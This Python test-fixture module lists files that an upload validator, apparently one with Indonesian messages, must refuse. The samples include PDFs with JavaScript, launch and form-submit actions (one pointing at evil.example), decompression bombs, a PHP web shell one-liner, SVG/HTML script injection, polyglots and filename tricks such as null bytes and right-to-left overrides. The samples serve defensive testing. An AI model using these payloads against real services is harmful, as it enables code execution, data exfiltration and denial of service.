"""Files that must not be let in, and why. Every entry: (name, bytes, part of the reason).

The bytes of the largest are a function that makes them: nobody who only looks for tests should pack 900 million spaces.
"""

import io
import zipfile
import zlib
from functools import partial

import pikepdf
from PIL import Image


def pdf_with(change=lambda document: None, **save):
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(out, **save)
    return out.getvalue()


def javascript_on_opening(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def indirect_javascript(document):
    action = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def launch(document):
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"),
    )
    document.pages[0].obj.Annots = pikepdf.Array([link])


def attachment(document):
    document.attachments["rahasia.exe"] = b"MZ"


def no_pages(document):
    del document.pages[0]


def zipped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.html", "<script>alert(1)</script>")
    return out.getvalue()


def image(kind, size=(20, 20)):
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, kind)
    return out.getvalue()


def huge_png():
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    return out.getvalue()


def pdf_that_unpacks_to(size, *, filters=b"/FlateDecode", kind=b"ObjStm"):
    """A small PDF whose object stream unpacks to `size` bytes."""
    packed = zlib.compress(b" " * size)
    if filters.count(b"Flate") > 1:
        packed = zlib.compress(packed)
    head = b"<</Type/%s/N 1/First 4/Filter %s/Length %d>>" % (kind, filters, len(packed))
    return b"%PDF-1.7\n1 0 obj\n" + head + b"\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF\n"


def submit_form(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")


def rich_media(document):
    document.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name("/RichMedia"), RichMedia=1)]
    )


def xfa_form(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


def deep(document):
    inner = pikepdf.Array([])
    for _ in range(60):
        inner = pikepdf.Array([inner])
    document.Root.Deep = inner


def png_with_huge_text():
    """A picture whose comment unpacks to far more than its points."""
    chunk = b"zTXtc\0\0" + zlib.compress(b"a" * 80 * 1024 * 1024)
    body = image("PNG")
    length, check = (len(chunk) - 4).to_bytes(4, "big"), zlib.crc32(chunk).to_bytes(4, "big")
    return body[:33] + length + chunk + check + body[33:]


def png_that_lies(width=60_000, height=60_000):
    body = image("PNG")
    head = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + body[24:29]
    return body[:12] + head + zlib.crc32(head).to_bytes(4, "big") + body[33:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"
PLAIN = pdf_with()

REFUSED = {
    "empty": ("kosong.pdf", b"", "kosong"),
    "too large": ("besar.pdf", PLAIN + b"0" * 5 * 1024 * 1024, "5 MB"),
    "no ending": ("laporan", PLAIN, "PDF, JPG, atau PNG"),
    "a document of an office": ("laporan.docx", zipped(), "Word, Excel"),
    "svg": ("gambar.svg", SVG, "SVG"),
    "html": ("halaman.html", HTML, "Halaman web"),
    "double ending": ("laporan.pdf.php", PHP, "program"),
    "program called pdf": ("laporan.pdf", PHP, "tidak sesuai"),
    "html called png": ("gambar.png", HTML, "tidak sesuai"),
    "png called jpg": ("gambar.jpg", image("PNG"), "tidak sesuai"),
    "gif called png": ("gambar.png", image("GIF"), "tidak sesuai"),
    "pdf not at the start": ("laporan.pdf", b"GIF89a" + PLAIN, "tidak sesuai"),
    "pdf followed by a zip": ("laporan.pdf", PLAIN + b"\n" * 2000 + zipped(), "diikuti isi lain"),
    "only the head of a pdf": ("laporan.pdf", b"%PDF-1.7\nrusak %%EOF", "rusak"),
    "pdf that runs a script": ("laporan.pdf", pdf_with(javascript_on_opening), "skrip"),
    "pdf whose page runs a script": ("laporan.pdf", pdf_with(indirect_javascript), "skrip"),
    "script in an object stream": (
        "laporan.pdf",
        pdf_with(indirect_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "skrip",
    ),
    "pdf that starts a program": ("laporan.pdf", pdf_with(launch), "skrip"),
    "pdf with a file inside": ("laporan.pdf", pdf_with(attachment), "skrip atau lampiran"),
    "pdf without pages": ("laporan.pdf", pdf_with(no_pages), "halaman"),
    "locked pdf": ("laporan.pdf", pdf_with(encryption=pikepdf.Encryption(owner="a", user="b")), "kata sandi"),
    "half a picture": ("foto.jpg", image("JPEG", (400, 400))[:600], "rusak"),
    "picture of 100 million points": ("foto.png", huge_png(), "terlalu besar"),
    "macros": ("laporan.docm", zipped(), "makro"),
    "macros in a table": ("hitung.XLSM", zipped(), "makro"),
    "an office document called pdf": ("laporan.pdf", zipped(), "tidak sesuai"),
    "svg called png": ("gambar.png", SVG, "tidak sesuai"),
    "archive": ("bukti.zip", zipped(), "arsip"),
    "program": ("laporan.exe", b"MZ", "program"),
    "script": ("laporan.js", b"alert(1)", "program"),
    "photo of another kind": ("foto.heic", b"\0\0\0 ftypheic", "JPG atau PNG"),
    "film": ("video.mp4", b"\0\0\0 ftypmp42", "Video"),
    "a true pdf with a program's ending before": ("laporan.exe.pdf", PLAIN, "dua akhiran"),
    "a true picture with a page's ending before": ("foto.html.jpg", image("JPEG"), "dua akhiran"),
    "zero in the name": ("lapo\x00ran.pdf", PLAIN, "tersembunyi"),
    "line break in the name": ("laporan.pdf\r\nX: y.pdf", PLAIN, "tersembunyi"),
    "name written backwards": ("laporan\u202efdp.exe.pdf", PLAIN, "tersembunyi"),
    "pdf followed by a small zip": ("laporan.pdf", PLAIN + zipped(), "diikuti isi lain"),
    "pdf in the comment of a zip": ("laporan.pdf", b"%PDF-1.4\n" + zipped() + b"%%EOF", "arsip|diikuti"),
    "pdf that begins as a page": (
        "laporan.pdf",
        b"%PDF-1.4\n<script>alert(1)</script>\n" + PLAIN[9:],
        "halaman web",
    ),
    "pdf that begins as a program": ("laporan.pdf", b"%PDF-1.4\n<?php system(1);?>\n" + PLAIN[9:], "program"),
    "pdf that sends a form": ("laporan.pdf", pdf_with(submit_form), "skrip"),
    "pdf with rich media": ("laporan.pdf", pdf_with(rich_media), "skrip"),
    "pdf with an active form": ("laporan.pdf", pdf_with(xfa_form), "skrip"),
    "pdf nested too deep": ("laporan.pdf", pdf_with(deep), "skrip|rusak"),
    "pdf that unpacks to 400 million bytes": (
        "laporan.pdf",
        partial(pdf_that_unpacks_to, 400_000_000),
        "rumit",
    ),
    "pdf packed twice": (
        "laporan.pdf",
        partial(pdf_that_unpacks_to, 40_000_000, filters=b"[/FlateDecode /FlateDecode]"),
        "rumit",
    ),
    "pdf whose kind is written in figures": (
        "laporan.pdf",
        partial(pdf_that_unpacks_to, 400_000_000, kind=b"Obj#53tm"),
        "rumit",
    ),
    "pdf locked without a password to open": (
        "laporan.pdf",
        pdf_with(encryption=pikepdf.Encryption(owner="a", user="")),
        "dikunci",
    ),
    "picture with a comment that unpacks to 80 million letters": ("foto.png", png_with_huge_text, "rusak"),
    "picture that lies about its size": ("foto.png", png_that_lies(), "terlalu besar"),
    "jpg with nothing in it": ("foto.jpg", b"\xff\xd8\xff\xd9", "rusak"),
}
